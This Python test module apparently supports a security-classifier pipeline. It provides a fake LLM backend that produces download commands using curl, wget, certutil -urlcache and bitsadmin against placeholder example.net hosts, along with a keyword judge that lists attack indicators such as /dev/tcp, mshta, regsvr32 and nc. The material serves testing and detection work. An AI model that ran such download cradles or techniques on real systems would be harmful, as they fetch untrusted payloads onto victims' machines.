"""Deterministic stand-ins for a generating LLM backend and for a judge."""

from __future__ import annotations

import json
import random
import re
from collections.abc import Sequence

import numpy as np

from distilsec.teachers.labelling import CallResult
from distilsec.teachers.llm.backend import make_generation
from distilsec.teachers.llm.endpoint import EndpointError

_DATA = re.compile(r"<data>(.*?)</data>", re.S)
BINARIES = ("curl -fsSL", "wget -q", "certutil.exe -urlcache -f", "bitsadmin /transfer j /download")


class FakeGenerateBackend:
    """Writes a fresh command line per (seed, sampler seed); every call is logged in ``calls``.

    ``mode`` picks the answer: ``"ok"`` (a fenced command line), ``"prose"``, ``"empty"``, ``"binary"``
    (control bytes), ``"timeout"`` (raises like the endpoint after its retries), or a callable
    ``(seed_text, sampler_seed) -> str``. ``kill_after`` raises KeyboardInterrupt on that call (a
    killed job), ``fail_every`` makes every k-th call time out.
    """

    def __init__(self, mode: object = "ok", *, kill_after: int | None = None, fail_every: int | None = None) -> None:
        self.mode = mode
        self.kill_after = kill_after
        self.fail_every = fail_every
        self.model_id = "fake:generator"
        self.calls: list[tuple[str, int]] = []
        self.messages: list[list[dict[str, str]]] = []

    def generate(
        self,
        messages: list[dict[str, str]],
        *,
        max_tokens: int = 256,
        temperature: float = 0.8,
        top_p: float = 0.95,
        seed: int = 0,
        stop: Sequence[str] = (),
    ) -> CallResult:
        if self.kill_after is not None and len(self.calls) >= self.kill_after:
            raise KeyboardInterrupt("killed")
        m = _DATA.search(messages[-1]["content"])
        seed_text = json.loads(m.group(1).removesuffix(" (truncated)")) if m else ""
        self.calls.append((seed_text, seed))
        self.messages.append(messages)
        if self.fail_every and len(self.calls) % self.fail_every == 0:
            raise EndpointError("http://127.0.0.1:9/v1/chat/completions: timed out after 3 retries")
        if callable(self.mode):
            text = self.mode(seed_text, seed)
        elif self.mode == "timeout":
            raise EndpointError("cannot reach http://127.0.0.1:9/v1/chat/completions: ReadTimeout")
        elif self.mode == "prose":
            text = "Sure! Here is a new command line that keeps the same intent as the original one."
        elif self.mode == "empty":
            text = "   "
        elif self.mode == "binary":
            text = "```\n\x00\x01\x02\xff\xfe binary \x7f junk\n```"
        else:
            rng = random.Random(seed)
            host = f"{rng.choice(['cdn', 'dl', 'files'])}{rng.randint(1, 999)}.example.net"
            name = f"{rng.choice(['upd', 'svc', 'run'])}{rng.randint(1, 9999)}.{rng.choice(['exe', 'bin', 'sh'])}"
            text = f"Here you go:\n```bash\n{rng.choice(BINARIES)} http://{host}/{name} {name}\n```"
        return CallResult(make_generation(text, "stop"), prompt_tokens=100, completion_tokens=20, seconds=0.001)

    def count_tokens(self, messages: list[dict[str, str]]) -> int:
        return sum(len(m["content"]) for m in messages) // 4

    def close(self) -> None:
        pass


class KeywordJudge:
    """A fitted 'model': malicious when the text holds a download/exec keyword, else benign."""

    classes_ = ["benign", "malicious"]
    KEYWORDS = ("http", "certutil", "bitsadmin", "/dev/tcp", "-enc", "-e ", "mshta", "regsvr32", "base64", "nc ")

    def __init__(self, fail: bool = False) -> None:
        self.fail = fail
        self.seen: list[str] = []

    def predict_proba(self, texts: Sequence[str]) -> np.ndarray:
        if self.fail:
            raise TimeoutError("judge endpoint timed out")
        self.seen.extend(texts)
        p = np.array([0.95 if any(k in t.lower() for k in self.KEYWORDS) else 0.05 for t in texts])
        return np.stack([1 - p, p], axis=1)
